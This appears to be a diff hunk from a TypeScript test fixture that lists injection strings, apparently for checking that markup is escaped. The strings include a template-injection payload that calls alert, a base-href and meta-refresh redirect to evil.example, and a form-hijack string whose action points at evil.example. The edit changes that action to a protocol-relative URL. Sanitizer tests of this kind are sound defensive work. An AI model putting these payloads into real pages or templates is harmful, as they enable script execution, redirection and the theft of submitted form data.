@@ -21,7 +21,7 @@ const MARKUP: [name: string, text: string][] = [
   ['the placeholders of templates', '{{constructor.constructor("alert(1)")()}} ${alert(1)} #{7*7} <%= 7 %>'],
   ['the replacements of a text', "$& $` $' $1 $<x> $$"],
   ['a base and a refresh', '<base href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example>'],
-  ['a form', '</form><form action=https://evil.example><button>'],
+  ['a form', '</form><form action=//evil.example><button>'],
 ];
 
 /** The same words. */
